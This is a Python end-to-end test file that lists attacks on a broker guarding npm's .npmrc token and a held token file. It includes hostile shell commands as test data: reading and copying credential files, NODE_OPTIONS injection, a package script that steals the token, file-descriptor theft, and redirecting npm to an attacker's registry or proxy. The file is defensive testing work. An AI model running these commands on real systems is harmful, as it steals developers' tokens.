"""Attacks on a file that shows each reader its own: npm's settings, and a file whose reader keeps it open."""

import contextlib
import os
import secrets
from collections.abc import Iterator

from tests.demo.machine import run_tool
from tests.e2e.attacks.row import SECRET
from tests.e2e.attacks.tool_attacks import THIEF, Attack, genuine, rows
from tests.e2e.clients.row import Client, Stand
from tests.e2e.clients.world import Clients
from tests.e2e.view.place import NPM
from tests.fakes.npm_registry import running_npm_registry

_HELD = ".config/held/token.ini"


@contextlib.contextmanager
def _stand(clients: Clients) -> Iterator[Stand]:
    token, held = f"npm_{secrets.token_hex(18)}", f"glpat-{secrets.token_hex(10)}"
    holder = clients.home / "attacks/holder"
    run_tool("cc", "-O2", "-Wall", "-Wextra", "-o", str(holder), f"{holder}.c")
    os.chown(holder, clients.uid, clients.world.user.pw_gid)
    with running_npm_registry(token) as registry:
        server = f"127.0.0.1:{registry.port}"
        clients.write(".npmrc", f"registry=http://{server}/\n//{server}/:_authToken={token}\nupdate-notifier=false\n")
        clients.write(_HELD, f"[login]\ntoken = {held}\n")
        yield Stand(
            "file view", "",
            {
                "npm": str(NPM), "use": f"{NPM} whoami", "url": f"http://{server}",
                "holder": str(holder), "held": f"$HOME/{_HELD}",
                "script": "console.log(String(require('fs').readFileSync(process.env.HOME + '/.npmrc')))",
            },
            (token, held),
            lambda: sum(each == f"Bearer {token}" for each in registry.seen),
            (),
        )  # fmt: skip


def _enroll(clients: Clients, stand: Stand) -> None:
    whose = ("--user", clients.world.user.pw_name, "--home", str(clients.home), "--yes")
    for file, reader in ((".npmrc", str(NPM)), (_HELD, stand.names["holder"])):
        clients.broker("enroll", "--file", str(clients.home / file), "--for", reader, *whose)


_CLIENT = Client("view", _stand, "", (), enroll=_enroll)
_HOLD = (
    "{holder} {held} > {loot}/holds & until test -s {loot}/holds; do sleep 0.05; done; "
    "/usr/bin/python3 {programs}/borrowed_view.py $!; kill %1"
)

ROWS = rows(
    _CLIENT,
    Attack("stranger", "another program reads a viewed file", "cat ~/.npmrc", mitre="T1552.001"),
    Attack(
        "mount",
        "another program looks for it where the view is mounted",
        "d=$(dirname $(readlink ~/.npmrc)); ls -A $d; cat $d/.npmrc; cp -r $d {loot}/copied",
        mitre="T1552.001",
    ),
    Attack(
        "renamed",
        "a script called as npm's is, in npm's interpreter",
        'echo "{script}" > {loot}/npm-cli.js; node {loot}/npm-cli.js; (exec -a npm node {loot}/npm-cli.js)',
        mitre="T1036.005",
    ),
    Attack(
        "settings",
        "NODE_OPTIONS is the attacker's, in the genuine npm",
        "{npm} whoami",
        {"NODE_OPTIONS": "--require={programs}/view_read.js"},
        mitre="T1574",
    ),
    Attack(
        "script",
        "a script of a package that npm runs reads it",
        "mkdir -p {loot}/package && cd {loot}/package && "
        """echo '{"scripts":{"steal":"cat ~/.npmrc"}}' > package.json && {npm} run --silent steal""",
        mitre="T1195.002",
    ),
    Attack("borrowed", "a reader's open descriptor is taken (pidfd_getfd), and its /proc/PID/fd opened", _HOLD),
    Attack("agents-tool", "the agent's tool runs npm; no rule lets it", "{npm} whoami", by_agent=True, alert=False),
    Attack(
        "elsewhere",
        "the genuine npm, at the attacker's registry",
        THIEF + "{npm} whoami --registry=$at/; mkdir -p {loot}/own && cd {loot}/own && echo '{}' > package.json && "
        "echo registry=$at/ > .npmrc && {npm} whoami; kill $thief",
        alert=False,
        mitre="T1567",
    ),
    Attack(
        "proxy",
        "the genuine npm in a folder that names the attacker's proxy, at a registry without TLS",
        THIEF + "mkdir -p {loot}/its && cd {loot}/its && echo '{}' > package.json && echo proxy=$at > .npmrc && "
        "{npm} whoami; kill $thief",
        gets=SECRET,
        alert=False,
        mitre="T1552",
        stopped_by='a registry with TLS; a rule with session = "terminal" in place of "user"',
    ),
    genuine(),
    what="npm",
)
